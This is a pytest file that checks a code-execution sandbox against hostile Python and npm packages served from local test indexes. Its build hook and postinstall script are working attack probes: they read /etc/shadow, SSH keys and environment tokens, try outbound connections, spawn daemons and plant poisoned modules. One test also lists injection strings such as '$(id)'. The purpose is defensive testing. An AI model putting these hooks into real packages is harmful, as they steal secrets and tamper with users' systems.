# SPDX-License-Identifier: GPL-2.0-only
"""Attacks by packages, which the tests build, and by what is asked for as one.

The installers are the real ones; the indexes are of the tests and on loopback.
"""

import ast
import http.server
import json
import os
import shutil
import socket
import threading

import pytest
from conftest import CANARY, Target, found_modes
from packages import place_with_uv, sdist, wheel
from test_requirements import SHOW, failed
from test_requirements_attack import Registry, tarball
from test_requirements_index import Index

HOOK = """
import os, socket, subprocess, sys, urllib.request, zipfile
NAME, INDEX, OTHER, CANARY = "evil-1.0-py3-none-any.whl", %d, %d, %r
def tried(f):
    try: return str(f())
    except Exception as e: return str(getattr(e, "code", None) or type(e).__name__)
def write(path): open(path, "w").write("WORD = 'poison'")
def everywhere():
    made = []
    tops = {os.path.expanduser("~"), os.environ.get("UV_CACHE_DIR", "/tmp"), "/tmp", "/dev/shm", os.getcwd()}
    for top in tops:
        for d in [top] + [os.path.join(top, n) for n in os.listdir(top)]:
            try: write(os.path.join(d, "greet.py")); made.append(d)
            except OSError: pass
    return len(made) > 0
def build_wheel(directory, config_settings=None, metadata_directory=None):
    found = {
        "canary": tried(lambda: open(CANARY).read()),
        "shadow": tried(lambda: open("/etc/shadow").read()),
        "keys": tried(lambda: os.listdir(os.path.dirname(CANARY) + "/.ssh")),
        "environment": tried(lambda: [k for k in os.environ if "CANARY" in k or "SANDBOX" in k or "TOKEN" in k]),
        "direct": tried(lambda: socket.create_connection(("127.0.0.1", OTHER), 2)),
        "proxy": tried(lambda: urllib.request.urlopen("http://127.0.0.1:%%d/" %% OTHER, timeout=5)),
        "named": tried(lambda: urllib.request.urlopen("http://elsewhere.invalid/", timeout=5)),
        "index": tried(lambda: urllib.request.urlopen("http://127.0.0.1:%%d/simple/greet/" %% INDEX).status),
        "daemon": tried(lambda: subprocess.Popen(
            [sys.executable, "-c", "import time; time.sleep(300124)"], start_new_session=True,
            stdin=-3, stdout=-3, stderr=-3).pid > 0),
        "packages": tried(lambda: write("/packages/x")),
        "system": tried(lambda: write("/usr/lib/x")),
        "poisons": tried(everywhere),
    }
    info = "evil-1.0.dist-info/"
    with zipfile.ZipFile(os.path.join(directory, NAME), "w") as z:
        z.writestr("evil.py", "FOUND = " + repr(found))
        z.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n")
        z.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        z.writestr(info + "RECORD", "evil.py,,\\n" + info + "METADATA,,\\n" + info + "WHEEL,,\\n")
    return NAME
"""
PROJECT = '[build-system]\nrequires=[]\nbuild-backend="hook"\nbackend-path=["."]\n'
PROJECT += '[project]\nname="evil"\nversion="1.0"\n'
NPM = "node" in found_modes() and shutil.which("npm")
NOT_THERE = ("FileNotFoundError", "PermissionError")

POSTINSTALL = """
const fs = require('fs'), net = require('net'), path = require('path');
const {spawn} = require('child_process');
const tried = f => { try { return String(f()); } catch (e) { return e.code || e.name; } };
const found = {
  canary: tried(() => fs.readFileSync(%(canary)s)),
  shadow: tried(() => fs.readFileSync('/etc/shadow')),
  environment: tried(() => Object.keys(process.env).filter(k => /CANARY|SANDBOX|TOKEN/.test(k))),
  writes: tried(() => fs.writeFileSync(path.dirname(%(canary)s) + '/left', 'x')),
  daemon: tried(() => spawn(process.execPath, ['-e', 'setTimeout(() => 0, 300124)'],
                            {detached: true, stdio: 'ignore'}).pid > 0),
};
const done = what => {
  found.connects = what;
  fs.writeFileSync(path.join(__dirname, 'found.json'), JSON.stringify(found));
  process.exit(0);
};
net.connect(%(port)d, '127.0.0.1').on('connect', () => done('connected')).on('error', e => done(e.code));
"""


def serve(handler, **fields):
    s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    s.daemon_threads, s.block_on_close = True, False
    vars(s).update(fields)
    threading.Thread(target=s.serve_forever, daemon=True).start()
    return s


@pytest.fixture(scope="module")
def world(shared_target):
    """Two indexes of python's, a registry of npm's, and somebody else who listens."""
    level = shared_target.level
    if level not in ("full", "namespaces"):
        pytest.skip("installs share the host's network here: tests/api/test_requirements_landlock.py")
    top = place_with_uv()
    listener = socket.create_server(("127.0.0.1", 0))
    for name in ("first", "second"):
        os.mkdir(f"{top}/{name}")
    wheel(top + "/first", "greet", "1.0", {"greet.py": "WORD = 'hello'\n"})
    wheel(top + "/second", "greet", "9.0", {"greet.py": "WORD = 'special'\n"})
    wheel(top + "/second", "extra", "1.0", {"extra.py": "WORD = 'extra'\n"})
    # a wheel with somebody else's file in it
    wheel(top + "/first", "covers", "1.0", {"covers.py": "", "greet.py": "WORD = 'poison'\n"})
    sdist(top + "/first", "built", "1.0", "open('/work/was-run', 'w'); raise SystemExit(1)\n")
    over = threading.Event()
    w = [serve(Index, wheels=f"{top}/{n}", asked=[], over=over) for n in ("first", "second")]
    hook = HOOK % (w[0].server_port, listener.getsockname()[1], shared_target.canary_file)
    sdist(top + "/first", "evil", "1.0", "", pyproject__toml=PROJECT, hook__py=hook)
    script = POSTINSTALL % {"canary": json.dumps(shared_target.canary_file), "port": listener.getsockname()[1]}
    about = {"name": "evil", "version": "1.0.0", "scripts": {"postinstall": "node attack.js"}}
    files = {"package.json": json.dumps(about), "index.js": "module.exports = require('./found.json')",
             "attack.js": script}  # fmt: skip
    npm = serve(Registry, package=tarball(files))
    yield type("World", (), {"top": top, "first": w[0], "second": w[1], "npm": npm, "listener": listener})
    over.set()
    for s in (*w, npm):
        s.shutdown()
        s.server_close()
    listener.close()
    shutil.rmtree(top)


def make(world, **more):
    modes = "python,node" if NPM else "python"
    env = {
        "CANARY": CANARY,
        "SANDBOX_PYTHON_INDEX": f"http://127.0.0.1:{world.first.server_port}/simple",
        "SANDBOX_NPM_REGISTRY": f"http://127.0.0.1:{world.npm.server_port}/",
        "SANDBOX_INSTALL_TIMEOUT_SEC": "40",
        "PATH": world.top + "/bin:" + os.environ["PATH"],
        **more,
    }
    return Target(env, (), modes)


@pytest.fixture(scope="module")
def careful(world):
    s = make(world)
    yield s
    s.stop()


@pytest.fixture(scope="module")
def building(world):
    s = make(world, SANDBOX_ALLOW_BUILD="true")
    yield s
    s.stop()


def nobody_came(listener):
    listener.setblocking(False)
    with pytest.raises(BlockingIOError):
        listener.accept()


def sleepers(server):
    def sleeps(pid):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                return b"300124" in f.read()
        except OSError:
            return False

    return [p for p in server.pids() if sleeps(p)]


def test_in01_code_of_a_package_that_is_built_finds_nothing_and_reaches_its_index_alone(building, world):
    r = building.execute("import evil; print(evil.FOUND)", requirements=["evil"])
    assert r["exit_code"] == 0, r["stderr"]
    found = ast.literal_eval(r["stdout"])
    for name in ("canary", "shadow", "keys"):
        assert found[name] in NOT_THERE, found
    assert found["environment"] == "[]" and found["index"] == "200" and found["daemon"] == "True", found
    assert found["direct"].endswith("Error") and found["proxy"] == found["named"] == "403", found
    assert found["packages"] in ("OSError", *NOT_THERE) and found["system"] in ("OSError", *NOT_THERE), found
    nobody_came(world.listener)


def test_in02_a_daemon_of_a_script_is_dead_before_the_run(building, world):
    if not NPM:
        pytest.skip("no npm here")
    r = building.execute("console.log(JSON.stringify(require('evil')))", language="node", requirements=["evil"])
    assert r["exit_code"] == 0, r["stderr"]
    found = json.loads(r["stdout"])
    assert found["canary"] in ("ENOENT", "EACCES") and found["shadow"] in ("ENOENT", "EACCES"), found
    assert found["environment"] == "" and found["daemon"] == "true", found
    assert found["connects"] not in ("connected", None) and found["writes"] != "undefined", found
    nobody_came(world.listener)
    assert not sleepers(building)


UNBUILT = "a package has an install script that was not run, which SANDBOX_ALLOW_BUILD=true permits"


def test_a_run_that_fails_for_want_of_an_install_script_names_the_setting(careful, building, world):
    if not NPM:
        pytest.skip("no npm here")

    def run(server, code):
        return server.execute(code, language="node", requirements=["evil"])

    r = run(careful, "require('evil')")  # wants what its script makes
    assert r["exit_code"] == 1 and "found.json" in r["stderr"]
    assert r["stderr"].endswith("\n" + UNBUILT + "\n") and r["meta"]["message"] == UNBUILT
    r = run(careful, "process.exit(7)")  # of a layer that is there already
    assert (r["exit_code"], r["stderr"], r["meta"]["message"]) == (7, UNBUILT + "\n", UNBUILT)
    r = run(careful, "console.log(1)")
    assert (r["exit_code"], r["stdout"], r["stderr"]) == (0, "1\n", "")
    assert UNBUILT not in careful.execute("process.exit(7)", language="node")["stderr"]
    assert UNBUILT not in careful.execute("raise SystemExit(7)", requirements=["greet"])["stderr"]
    r = run(building, "process.exit(7)")
    assert (r["exit_code"], r["stderr"]) == (7, "")


def test_in04_packages_cannot_be_changed_by_who_uses_them(careful):
    code = """
import errno, os
for f in (lambda: open('/packages/x', 'w'), lambda: os.unlink('/packages/greet.py'),
          lambda: os.rename('/packages/greet.py', '/packages/y'), lambda: open('/packages/greet.py', 'r+'),
          lambda: os.chmod('/packages/greet.py', 0o777), lambda: os.rmdir('/packages')):
    try: f(); print('done')
    except OSError as e: print(errno.errorcode[e.errno])
"""
    said = careful.execute(code, requirements=["greet"])["stdout"].split()
    assert len(said) == 6 and set(said) <= {"EROFS", "EACCES", "EPERM", "EBUSY"} and "EROFS" in said, said
    assert careful.execute(SHOW, requirements=["greet"])["stdout"].startswith("hello ")


@pytest.mark.parametrize("language", ["python", "node"])
def test_in05_what_is_no_name_of_a_package_is_refused(careful, language, world):
    if language == "node" and not NPM:
        pytest.skip("no npm here")
    before = list(world.first.asked)
    for bad in ("-r /etc/passwd", "--index-url=http://127.0.0.1/", "git+https://127.0.0.1/x", "file:///etc/passwd",
                "greet; os.system", "$(id)", "`id`", "greet\ngreet", "./greet", "../greet", "/etc/passwd",
                "greet @ http://127.0.0.1/x.whl", "a|b", "a&b", "-", "", " ", "greet\0", "npm:x@1/../y"):  # fmt: skip
        r = careful.post("/execute", {"code": "1", "language": language, "requirements": ["greet", bad]})
        assert r.status == 400 and r.json["code"] in ("bad_requirement", "bad_request"), (bad, r)
    assert world.first.asked == before


def test_in06_the_index_that_is_named_is_the_only_one(world):
    """Whatever the host's own configuration says; and what an extra one has comes from there alone."""
    first, second = (f"http://127.0.0.1:{s.server_port}/simple" for s in (world.first, world.second))
    env = {"PIP_EXTRA_INDEX_URL": second, "UV_INDEX": second, "UV_EXTRA_INDEX_URL": second, "PIP_INDEX_URL": second}
    s = make(world, **env)
    try:
        assert s.execute(SHOW, requirements=["greet"])["stdout"].startswith("hello ")
        failed(s.execute("1", requirements=["extra"]), "missing_package")
        assert world.second.asked == []
    finally:
        s.stop()
    s = make(world, SANDBOX_PYTHON_INDEX=f"{first} {second}")
    try:
        r = s.execute(SHOW + "; import extra; print(extra.WORD)", requirements=["greet", "extra"])
        assert r["stdout"] == "special /packages/greet.py\nextra\n", r
        failed(s.execute("1", requirements=["greet==1.0"]), "missing_package")
    finally:
        s.stop()


def test_in08_what_one_list_installs_changes_no_other(building, careful):
    r = building.execute("import evil, greet; print(evil.FOUND['poisons'])", requirements=["evil", "greet"])
    assert r["stdout"] == "True\n", r
    r = careful.execute("import greet; print(greet.WORD)", requirements=["covers"])
    assert r["stdout"] == "poison\n", r  # its own layer is its own affair
    for s in (building, careful):
        for wanted in (["greet"], ["greet==1.0"]):
            assert s.execute(SHOW, requirements=wanted)["stdout"] == "hello /packages/greet.py\n"


def test_in09_after_the_install_there_is_no_network(careful, world):
    code = """
import errno, os, socket
for family in (socket.AF_INET, socket.AF_INET6):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try: socket.socket(family, kind); print("a socket")
        except OSError as e: print(errno.errorcode[e.errno])
print([n for n in os.environ if "proxy" in n.lower()])
"""
    careful.execute("1", requirements=["greet"])
    asked = list(world.first.asked)
    for _ in range(2):
        r = careful.execute(code, requirements=["greet"])
        assert r["stdout"] == "EAFNOSUPPORT\n" * 4 + "[]\n", r
    assert world.first.asked == asked


def test_in10_code_of_packages_is_not_run_unless_the_operator_said_so(careful):
    said = failed(careful.execute("1", requirements=["built"]), "needs_build")
    assert "SANDBOX_ALLOW_BUILD=true" in said
    if NPM:
        code = "console.log(JSON.stringify(require('evil')))"
        r = careful.execute(code, language="node", requirements=["evil"])
        assert r["exit_code"] == 1 and "found.json" in r["stderr"]  # its script did not make it
    assert not sleepers(careful)
